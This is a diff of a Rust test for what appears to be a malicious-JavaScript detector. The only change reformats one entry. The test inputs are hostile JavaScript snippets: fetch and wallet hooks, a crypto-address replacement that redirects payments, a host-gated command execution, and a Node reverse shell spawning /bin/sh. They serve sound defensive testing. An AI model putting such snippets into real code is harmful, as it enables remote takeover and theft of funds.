@@ -312,7 +312,10 @@ fn shapes_and_guards_are_seen() {
         ("if (require('os').hostname() !== 'DESKTOP-1') require('child_process').exec('ls')", "host"),
         ("const f = window.fetch; window.fetch = function (a) { return f(a) }", "prototype-hook"),
         ("window.ethereum.request = async a => g(a)", "wallet-hook"),
-        ("const r = /0x[a-fA-F0-9]{40}/g; globalThis.fetch = async (...a) => g(a).replace(r, mine)", "wallet-hook"),
+        (
+            "const r = /0x[a-fA-F0-9]{40}/g; globalThis.fetch = async (...a) => g(a).replace(r, mine)",
+            "wallet-hook",
+        ),
         (
             "const n = require('net'), c = require('child_process'); const s = n.connect(1, 'a.invalid'); const p = c.spawn('/bin/sh', []); s.pipe(p.stdin)",
             "reverse-shell",
